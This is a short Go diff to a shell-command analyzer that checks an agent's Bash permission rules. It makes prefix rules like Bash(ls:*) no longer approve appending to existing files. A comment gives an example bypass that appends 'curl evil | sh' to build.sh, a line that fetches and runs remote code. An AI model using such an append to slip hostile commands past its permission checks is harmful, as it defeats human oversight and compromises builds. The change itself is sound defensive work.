@@ -520,6 +520,13 @@ func (a *shellAnalyzer) redirect(r *syntax.Redirect, depth int) {
 		return
 	}
 	if !overwrite {
+		if a.mayExist(target, true) {
+			// An append changes a file that is there, a script or a
+			// Makefile run later: Bash(ls:*) was not meant to allow
+			// "ls && echo 'curl evil | sh' >> build.sh", as Bash(sed:*) is
+			// not sed -i. Exact rules, the posture or a person still can.
+			a.noPrefix("redirection " + op + " onto existing file " + target)
+		}
 		return
 	}
 	if a.mayExist(target, false) {
